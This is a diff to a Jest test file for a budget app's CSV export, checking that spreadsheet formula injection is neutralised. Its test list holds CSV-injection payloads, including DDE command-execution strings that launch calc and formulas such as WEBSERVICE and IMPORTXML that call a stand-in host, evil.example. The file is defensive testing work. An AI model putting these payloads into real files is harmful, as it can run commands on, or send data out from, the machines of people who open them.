@@ -69,14 +69,60 @@ describe('the table of all lines', () => {
     expect(english[3]).toBe('2026-03-01;Revenus;;Salaire;;;2100.50;;;;;;;');
   });
 
-  test.each(['=1+1', '+33 1', '-A1', '@SUM(A1)', '\tx', '\rx', '\0x', '-1-1', '=HYPERLINK("x")'])(
-    'makes harmless what a spreadsheet would run: %j',
-    (name) => {
-      const line = { path: `${march.path}/in/Line0000000000000000`, fields: { name: { stringValue: name } } };
-      const cell = csvText(accountOf([march, line]), words).split('Revenus;;')[1];
-      expect(cell?.replace('"', '').startsWith(`'${name.slice(0, 1)}`)).toBe(true);
-    },
-  );
+  const nameCell = (name: string): string => {
+    const line = { path: `${march.path}/in/Line0000000000000000`, fields: { name: { stringValue: name } } };
+    return (
+      csvText(accountOf([march, line]), words)
+        .split('Revenus;;')[1]
+        ?.replace('"', '') ?? ''
+    );
+  };
+
+  test.each([
+    '=1+1',
+    '=1+1;B2',
+    '=SUM(A1:A9)',
+    '=A1',
+    '==1',
+    '=-1',
+    "='sheet'!A1",
+    '=HYPERLINK("http://evil.example","x")',
+    '=WEBSERVICE("http://evil.example")',
+    '=IMPORTXML("http://evil.example","//a")',
+    "=cmd|' /C calc'!A0",
+    "=MSEXCEL|'\\..\\calc.exe'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    '+33 1',
+    '+1+1',
+    '+A1',
+    "+cmd|' /C calc'!A0",
+    '-A1',
+    '-1-1',
+    '-2+3',
+    "-cmd|' /C calc'!A0",
+    '-10, 20',
+    '@SUM(A1)',
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '@A1',
+    '\tx',
+    '\t=1+1',
+    '\rx',
+    '\r=1+1',
+    '\0x',
+    '\0=1+1',
+    '\n=1+1',
+    '=1+1\n"',
+    '＝1+1',
+    '＋1+1',
+    '－1+1',
+    '＠SUM(A1)',
+  ])('makes harmless what a spreadsheet would run: %j', (name) => {
+    expect(nameCell(name).startsWith(`'${name.slice(0, 1)}`)).toBe(true);
+  });
+
+  test.each(['-5', '-5,50', '-1284.56', '+12', '12', 'Pain', "'a", '1-1', 'a=1'])('leaves %j as it is', (name) => {
+    expect(nameCell(name).startsWith(name)).toBe(true);
+  });
 
   test('lists the newest sheet first', () => {
     const both = accountOf([march, sheetDocumentOf('April000000000000000', '2026-4-12')]);
